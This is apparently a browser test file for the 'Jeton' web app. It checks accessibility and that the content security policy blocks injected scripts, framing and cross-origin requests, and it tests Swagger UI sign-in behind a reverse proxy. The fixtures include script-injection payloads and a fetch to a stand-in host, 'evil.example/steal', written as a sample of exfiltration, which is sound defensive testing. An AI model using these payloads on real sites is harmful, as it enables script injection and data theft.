// Jeton's pages: accessibility, content security policy, and Swagger UI behind a reverse proxy with a path.

import { createServer, request as sendRequest } from "node:http";

import {
  checkAccessibility, equal, expectPolicyViolations, newContext, screenshot, step, visible,
} from "./browser.mjs";
import { API, ISSUER, PASSWORD, until, startBehindProxy, PROXY } from "./processes.mjs";
import { passwordSection } from "./jeton_swagger_ui.mjs";

/** Injected markup: an inline script, a script of another origin, an event handler, and a style. */
const INJECTED = `<script>window.ran = "inline"</script><script src="https://evil.example/x.js"></script>
  <img src="x:" onerror="window.ran = 'handler'"><style>body { --ran: style }</style>`;
const SCREENS = [
  ["light", { colorScheme: "light" }],
  ["dark", { colorScheme: "dark" }],
  ["phone", { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, colorScheme: "light" }],
  ["phone-dark", { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, colorScheme: "dark" }],
];

export async function pages() {
  for (const [name, options] of SCREENS) await landing(name, options);
  for (const [name, url] of [
    ["the landing page", `${ISSUER}/`], ["Jeton's Swagger UI", `${ISSUER}/docs`],
    ["the page of /my-info", `${API}/`], ["Swagger UI of /my-info", `${API}/docs`],
  ]) await injected(name, url);
  await behindProxy();
}

async function landing(name, options) {
  const context = await newContext(options);
  const page = await context.newPage();
  await step(`the landing page is accessible: ${name}`, async () => {
    await page.goto(`${ISSUER}/`);
    await visible(page.getByRole("heading", { name: "Jeton" }));
    await checkAccessibility(page);
    await screenshot(page, `landing-${name}`);
    await page.getByRole("link", { name: "Try it" }).click();
    await visible(page.getByRole("button", { name: "Authorize" }).first());
  });
  await context.close();
}

async function injected(name, url) {
  const context = await newContext();
  const page = await context.newPage();
  await step(`${name}: injected scripts do not run`, async () => {
    // The same document and policy, with the injected markup.
    await page.route(url, async (route) => {
      const response = await route.fetch();
      const text = await response.text();
      // The last one, because Swagger UI's script contains others.
      const end = text.lastIndexOf("</body>");
      await route.fulfill({ response, body: text.slice(0, end) + INJECTED + text.slice(end) });
    });
    expectPolicyViolations();
    await page.goto(url);
    await page.locator("img[onerror]").waitFor({ state: "attached" });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
    equal(await page.evaluate(() => window.ran ?? null), null, "the injected script that ran");
    equal(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue("--ran")), "", "the style");
    const sent = await page.evaluate(() => fetch("https://evil.example/steal").then(() => "sent", () => "blocked"));
    equal(sent, "blocked", "a request to another origin");
  });
  await step(`${name}: no other origin can frame it`, async () => {
    expectPolicyViolations();
    const other = await context.newPage();
    const frame = url.startsWith(ISSUER) ? `${API}/` : `${ISSUER}/`;
    await other.route(frame, (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${url}"></iframe>` }));
    await other.goto(frame);
    await until("the frame is refused", async () => {
      const inner = other.frames()[1];
      return inner && (await inner.evaluate(() => location.href)).startsWith("chrome-error:");
    });
    await other.close();
  });
  await context.close();
}

/** Starts a reverse proxy that serves `target` under /auth. With `strips`, it removes the path before forwarding. */
function startProxy(target, strips) {
  const server = createServer((incoming, outgoing) => {
    const path = strips ? incoming.url.replace(/^\/auth/, "") || "/" : incoming.url;
    const { hostname, port } = new URL(target);
    const forwarded = sendRequest({ hostname, port, path, method: incoming.method, headers: incoming.headers }, (response) => {
      outgoing.writeHead(response.statusCode, response.rawHeaders);
      response.pipe(outgoing);
    });
    forwarded.on("error", () => outgoing.destroy());
    incoming.pipe(forwarded);
  });
  return new Promise((resolve) => server.listen(new URL(PROXY).port, "127.0.0.1", () => resolve(server)));
}

async function behindProxy() {
  const target = await startBehindProxy();
  for (const strips of [true, false]) {
    const server = await startProxy(target, strips);
    const context = await newContext();
    const page = await context.newPage();
    await step(`Swagger UI signs in behind a path that the proxy ${strips ? "strips" : "keeps"}`, async () => {
      await page.goto(`${PROXY}/auth/`);
      await page.getByRole("link", { name: "Try it" }).click();
      await page.getByRole("button", { name: "Authorize" }).first().click();
      const dialog = page.locator(".modal-ux");
      const section = passwordSection(dialog);
      await section.locator("#oauth_username").fill("admin");
      await section.locator("#oauth_password").fill(PASSWORD);
      const tokens = page.waitForResponse(`${PROXY}/auth/token`);
      await section.getByRole("button", { name: /^(Apply given OAuth2|Authorize)/ }).click();
      equal((await tokens).status(), 200, "/token");
      await dialog.getByRole("button", { name: /^Close/ }).first().click();
      const block = page.locator("#operations-Account-fetchAccount");
      await block.locator(".opblock-summary-control").click();
      await block.getByRole("button", { name: "Try it out" }).click();
      const account = page.waitForResponse(`${PROXY}/auth/account`);
      await block.getByRole("button", { name: "Execute" }).click();
      equal((await account).status(), 200, "/account");
    });
    await context.close();
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
}
